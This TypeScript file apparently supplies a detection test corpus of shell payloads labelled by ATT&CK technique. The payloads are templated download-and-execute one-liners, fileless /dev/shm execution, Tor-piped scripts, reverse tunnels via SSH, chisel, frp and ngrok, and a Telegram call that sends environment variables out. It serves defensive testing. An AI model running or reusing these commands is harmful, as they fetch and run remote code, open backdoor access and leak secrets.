import { type Payload, payloads } from '../payload.ts';

/** Code that comes from the network and is run, and code that leaves no file. */
export const shellDownloads: readonly Payload[] = [
  ...payloads('shell', 'EXE-DLEXEC', [
    ['dl-curl-pipe', 'malicious', 'T1105', (p) => `curl -fsSL http://${p.ip}:${p.port}/x.sh | bash`],
    ['dl-wget-pipe', 'malicious', 'T1105', (p) => `wget -q -O - http://${p.ip}/d.sh | sh`],
    ['dl-picture', 'malicious', 'T1105', (p) => `curl -s http://${p.host}/logo3.jpg | bash -s`],
    [
      'dl-chmod-run',
      'malicious',
      'T1105',
      (p) => `wget http://${p.ip}/k -O /tmp/.k\nchmod +x /tmp/.k\n/tmp/.k &\nsleep 2\nrm -f /tmp/.k`,
    ],
    ['dl-substitution', 'malicious', 'T1105', (p) => `bash -c "$(curl -fsSL http://${p.ip}/i)"`],
    ['dl-source', 'malicious', 'T1105', (p) => `source <(curl -s http://${p.ip}/i.sh)`],
    [
      'dl-fallback',
      'malicious',
      'T1105',
      (p) => `(curl -fsSL http://${p.ip}/c.sh || wget -qO- http://${p.ip}/c.sh) | bash`,
    ],
    [
      'dl-devtcp',
      'malicious',
      'T1105',
      (p) =>
        `exec 3<>/dev/tcp/${p.ip}/80\necho -e "GET /x HTTP/1.0\\r\\nHost: ${p.ip}\\r\\n\\r\\n" >&3\ncat <&3 > /tmp/x\nchmod +x /tmp/x\n/tmp/x`,
    ],
    [
      'dl-python',
      'malicious',
      'T1105',
      (p) => `python3 -c "import urllib.request as u;exec(u.urlopen('http://${p.ip}/s.py').read())"`,
    ],
    [
      'dl-iot',
      'malicious',
      'T1105',
      (p) =>
        `cd /tmp || cd /var/run; for a in x86 arm7 mips; do wget http://${p.ip}/bins/$a; chmod 777 $a; ./$a docker; rm -f $a; done`,
    ],
    [
      'dl-tar',
      'malicious',
      'T1105',
      (p) => `curl -s http://${p.ip}/b.tgz | tar -xz -C /var/tmp\ncd /var/tmp/b && nohup ./run > /dev/null 2>&1 &`,
    ],
    ['dl-named-host', 'suspicious', 'T1105', (p) => `curl -fsSL https://${p.host}/setup.sh | sh`],
  ]),
  ...payloads('shell', 'EXE-FILELESS', [
    [
      'shm-run',
      'malicious',
      'T1105 T1620 T1070.004',
      (p) => `curl -s http://${p.ip}/m -o /dev/shm/.m && chmod 700 /dev/shm/.m && /dev/shm/.m; rm -f /dev/shm/.m`,
    ],
  ]),
  ...payloads('shell', 'C2-NET', [
    [
      'tor-pipe',
      'malicious',
      'T1105',
      (p) => `curl -s --socks5-hostname 127.0.0.1:9050 http://abc${p.port}def.onion/r.sh | sh`,
    ],
    [
      'tunnel-ssh',
      'suspicious',
      'T1572',
      (p) => `ssh -o StrictHostKeyChecking=no -fN -R 2222:localhost:22 root@${p.ip}`,
    ],
    ['tunnel-chisel', 'suspicious', 'T1572', (p) => `chisel client ${p.ip}:8080 R:socks`],
    ['tunnel-frp', 'suspicious', 'T1572', (p) => `frpc tcp -s ${p.ip}:7000 -l 22 -r 6000 -n shell`],
    ['tunnel-ngrok', 'suspicious', 'T1572', (p) => `ngrok tcp 22 --authtoken ${p.wallet.slice(0, 30)}`],
    [
      'telegram',
      'suspicious',
      'T1041 T1567 T1102',
      (p) =>
        `curl -s -X POST https://api.telegram.org/bot${p.port}:AA${p.wallet.slice(4, 37)}/sendMessage -d chat_id=1 -d text="$(hostname) $(env)"`,
    ],
  ]),
];
